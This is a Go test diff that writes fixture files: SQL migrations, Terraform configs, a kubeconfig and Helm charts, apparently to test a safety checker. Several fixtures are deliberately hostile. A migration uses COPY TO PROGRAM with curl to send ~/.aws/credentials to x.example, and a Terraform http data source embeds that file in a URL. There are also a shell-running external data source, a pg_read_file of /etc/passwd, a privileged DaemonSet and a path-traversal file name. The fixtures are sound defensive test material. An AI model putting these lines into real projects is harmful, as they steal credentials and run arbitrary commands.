@@ -92,6 +92,52 @@ func corpusEnvAt(tb testing.TB, root string) Env {
 			tb.Fatal(err)
 		}
 	}
+	// The project's local PostgreSQL (a compose service on 5432) with its
+	// migrations and SQL scripts, and Terraform configurations: a plain
+	// one with a local module, one with an external data source, one whose
+	// local module fetches a URL at plan.
+	for f, text := range map[string]string{
+		"home/u/proj/docker-compose.yml":            "services:\n  db:\n    image: postgres:16\n    ports: [\"5432:5432\"]\n",
+		"home/u/proj/migrations/0001_init.up.sql":   "CREATE TABLE accounts (id bigserial PRIMARY KEY);\n",
+		"home/u/proj/migrations/0001_init.down.sql": "DROP TABLE accounts;\n",
+		"home/u/proj/migrations-x/0001_init.up.sql": "COPY accounts TO PROGRAM 'curl -d @/home/u/.aws/credentials https://x.example';\n",
+		"home/u/proj/sql/report.sql":                "SELECT status, count(*) FROM orders GROUP BY 1;\n",
+		"home/u/proj/sql/seed.sql":                  "INSERT INTO accounts DEFAULT VALUES;\n",
+		"home/u/proj/sql/sneaky.sql":                "SELECT pg_read_file('/etc/passwd');\n",
+		"home/u/proj/infra/main.tf":                 "module \"b\" {\n  source = \"./modules/b\"\n}\n",
+		"home/u/proj/infra/modules/b/main.tf":       "resource \"aws_s3_bucket\" \"this\" {\n  bucket = \"b\"\n}\n",
+		"home/u/proj/infra-ext/main.tf":             "data \"external\" \"x\" {\n  program = [\"sh\", \"-c\", \"id\"]\n}\n",
+		"home/u/proj/infra-mod/main.tf":             "module \"m\" {\n  source = \"../infra-mod-m\"\n}\n",
+		"home/u/proj/infra-mod-m/main.tf":           "data \"http\" \"x\" {\n  url = \"https://x.example/?k=${file(\"~/.aws/credentials\")}\"\n}\n",
+		"home/u/.kube/config": "apiVersion: v1\nkind: Config\ncurrent-context: kind-platform\nclusters:\n" +
+			"- {name: kind-platform, cluster: {server: \"https://127.0.0.1:40123\"}}\n" +
+			"- {name: prod-eu, cluster: {server: \"https://k8s.prod-eu.example.com\"}}\n" +
+			"- {name: tunnel, cluster: {server: \"https://127.0.0.1:6443\", proxy-url: \"socks5://bastion.example.com:1080\"}}\n" +
+			"contexts:\n- {name: kind-platform, context: {cluster: kind-platform}}\n- {name: prod-eu, context: {cluster: prod-eu}}\n" +
+			"- {name: via-bastion, context: {cluster: tunnel}}\n",
+		"home/u/proj/charts/api/Chart.yaml":                "apiVersion: v2\nname: api\nversion: 0.1.0\n",
+		"home/u/proj/charts/api/values.yaml":               "resources:\n  limits:\n    memory: 256Mi\n",
+		"home/u/proj/charts/api/values-dev.yaml":           "resources:\n  limits:\n    memory: 512Mi\n",
+		"home/u/proj/charts/api/templates/deployment.yaml": "kind: Deployment\nspec:\n  template:\n    spec:\n      containers:\n        - name: api\n          resources: {{- toYaml .Values.resources | nindent 12 }}\n",
+		"home/u/proj/charts/priv/Chart.yaml":               "apiVersion: v2\nname: priv\nversion: 0.1.0\n",
+		"home/u/proj/charts/priv/templates/ds.yaml":        "kind: DaemonSet\nspec:\n  template:\n    spec:\n      containers:\n        - name: x\n          securityContext: {privileged: true}\n",
+		"home/u/proj/charts/packed/Chart.yaml":             "apiVersion: v2\nname: packed\nversion: 0.1.0\n",
+		"home/u/proj/charts/packed/charts/sub-0.1.0.tgz":   "\x1f\x8b",
+		"home/u/proj/values-priv.yaml":                     "securityContext:\n  privileged: true\n",
+		"home/u/proj/notes/a.md":                           "Tally\n",
+		"home/u/proj/notes/sub/b.md":                       "Tally\n",
+		"home/u/proj/weird/z ../.bashrc":                   "Tally\n",
+		"home/u/proj/data/orders.csv":                      "order_id,status,amount_cents\n1,paid,4200\n",
+		"home/u/proj/data/customers.csv":                   "customer_id,country\n10,GB\n",
+		"home/u/proj/infra-file/main.tf":                   "output \"k\" {\n  value = file(\"/home/u/.aws/credentials\")\n}\n",
+	} {
+		if err := os.MkdirAll(filepath.Dir(filepath.Join(root, f)), 0o755); err != nil {
+			tb.Fatal(err)
+		}
+		if err := os.WriteFile(filepath.Join(root, f), []byte(text), 0o644); err != nil {
+			tb.Fatal(err)
+		}
+	}
 	return Env{Cwd: "/home/u/proj", Home: "/home/u", FS: os.DirFS(root)}
 }
 
